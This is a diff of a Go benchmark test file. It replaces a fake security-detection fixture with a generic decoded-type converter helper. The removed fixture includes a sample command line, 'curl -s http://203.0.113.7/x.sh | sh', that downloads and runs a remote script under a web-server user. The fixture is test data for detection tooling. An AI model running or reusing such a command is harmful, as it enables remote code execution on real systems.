@@ -3,7 +3,7 @@ package output
 import (
 	"encoding/json"
 	"fmt"
-	"strings"
+	"math"
 	"syscall"
 	"testing"
 	"time"
@@ -257,73 +257,44 @@ func BenchmarkRenderDigest(b *testing.B) {
 	}
 }
 
-// decodedDetection is record i of the real-host bench (test/bench/record.go's detection)
-// with values as chunk.Decoder gives them: map[string]any, string, int64, float64, []any.
-// Its "notes" field is pad bytes long.
-func decodedDetection(i, pad int) Record {
-	return Record{
-		Tag:  "bench",
-		Time: time.Date(2026, 11, 27, 10, 0, 0, 123456789, time.UTC).Add(time.Duration(i) * time.Millisecond),
-		Fields: map[string]any{
-			"cat":       "Suspicious Shell Spawned By Web Server",
-			"source":    "dr-general",
-			"detect_id": fmt.Sprintf("b7f1c2d4-9a3e-4f60-8d2b-%012d", i),
-			"link":      fmt.Sprintf("https://app.limacharlie.io/orgs/8cbe27f4/sensors/bb4b30af/timeline?time=%d", 1795773600+i),
-			"priority":  int64(4),
-			"namespace": "general",
-			"rule_tags": []any{"web", "shell", "rce"},
-			"score":     0.87,
-			"notes":     strings.Repeat("n", pad),
-			"detect_mtd": map[string]any{
-				"description":    "A shell was started by a process that serves web traffic; this is a common sign of remote code execution.",
-				"falsepositives": []any{"Administrative scripts run from CGI", "Health checks"},
-				"level":          "high",
-				"tags":           []any{"attack.execution", "attack.t1059.004", "attack.persistence"},
-			},
-			"detect": map[string]any{
-				"event": map[string]any{
-					"FILE_PATH":    "/bin/sh",
-					"COMMAND_LINE": "/bin/sh -c curl -s http://203.0.113.7/x.sh | sh; echo done > /tmp/.marker",
-					"HASH":         "2f1c4ab6e3a9d6b1f0e7c8d5a4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5",
-					"PROCESS_ID":   int64(31337 + i),
-					"USER_NAME":    "www-data",
-					"CWD":          "/var/www/html/uploads",
-					"ENVIRONMENT": []any{"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
-						"HOME=/var/www", "LANG=C.UTF-8", "SERVER_SOFTWARE=nginx/1.24.0",
-						"REMOTE_ADDR=203.0.113.7", "HTTP_USER_AGENT=Mozilla/5.0 (X11; Linux x86_64) curl/8.5.0"},
-					"MEMORY_USAGE": int64(4194304),
-					"PARENT": map[string]any{
-						"FILE_PATH":    "/usr/sbin/nginx",
-						"COMMAND_LINE": "nginx: worker process",
-						"PROCESS_ID":   int64(1042),
-						"HASH":         "9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d9c8b7a6f5e4d3c2b1a0f9e8d",
-					},
-				},
-				"routing": map[string]any{
-					"hostname":   fmt.Sprintf("web-%d.prod.corp.example", i%100),
-					"sid":        "bb4b30af-ff11-4ff4-836f-f014ada33345",
-					"oid":        "8cbe27f4-bfa1-4afb-ba19-138cd51389cd",
-					"event_type": "NEW_PROCESS",
-					"event_time": int64(1795773600123 + i),
-					"ext_ip":     "198.51.100.23",
-					"int_ip":     "10.0.4.17",
-					"plat":       int64(536870912),
-					"tags":       []any{"prod", "web", "pci"},
-				},
-			},
-		},
+// asDecoded returns v with the types chunk.Decoder gives: map[string]any for maps, string for
+// []byte, int64 for the integers that fit.
+func asDecoded(v any) any {
+	switch x := v.(type) {
+	case []byte:
+		return string(x)
+	case uint64:
+		if x <= math.MaxInt64 {
+			return int64(x)
+		}
+	case []any:
+		out := make([]any, len(x))
+		for i, el := range x {
+			out[i] = asDecoded(el)
+		}
+		return out
+	case map[any]any:
+		out := make(map[string]any, len(x))
+		for k, el := range x {
+			out[k.(string)] = asDecoded(el)
+		}
+		return out
+	case map[string]any:
+		out := make(map[string]any, len(x))
+		for k, el := range x {
+			out[k] = asDecoded(el)
+		}
+		return out
 	}
+	return v
 }
 
-// BenchmarkPayloadDecoded measures the JSON payload of the real-host bench's 2 KB record
-// (decodedDetection, padded as test/bench pads it to 2,048 payload bytes), with cpu-ns/op
-// (the process's CPU time, garbage collection included) besides wall ns/op.
+// BenchmarkPayloadDecoded measures the JSON payload of the benchmark record with values as
+// chunk.Decoder gives them (the real host's case), with cpu-ns/op (the process's CPU time,
+// garbage collection included) besides wall ns/op.
 func BenchmarkPayloadDecoded(b *testing.B) {
-	base, err := Payload(decodedDetection(0, 0), "date")
-	if err != nil {
-		b.Fatal(err)
-	}
-	rec := decodedDetection(0, max(2048-len(base), 0))
+	rec := benchRecord()
+	rec.Fields = asDecoded(rec.Fields).(map[string]any)
 	var st state
 	b.ReportAllocs()
 	cpu0 := cpuTime()
